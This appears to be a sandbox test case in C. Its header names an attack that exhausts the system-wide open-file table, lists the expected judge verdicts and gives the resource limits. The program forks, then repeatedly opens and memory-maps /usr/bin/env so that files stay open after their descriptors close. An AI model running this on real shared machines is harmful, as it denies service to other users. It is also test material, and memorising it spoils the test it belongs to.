/* attack: keeps files open by mapping them, beyond what its descriptors allow
 * verdict: OK TLE MLE
 * outside: others still open files
 * limits: cpu=300ms wall=60s memory=64M procs=8 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

int main(void)
{
    fork();
    fork();
    for (;;) {
        int fd = open("/usr/bin/env", O_RDONLY);
        if (fd < 0)
            return errno == ENFILE && printf("through: all files of the machine\n");
        if (mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0) == MAP_FAILED)
            return 0; /* vm.max_map_count */
        close(fd);
    }
}
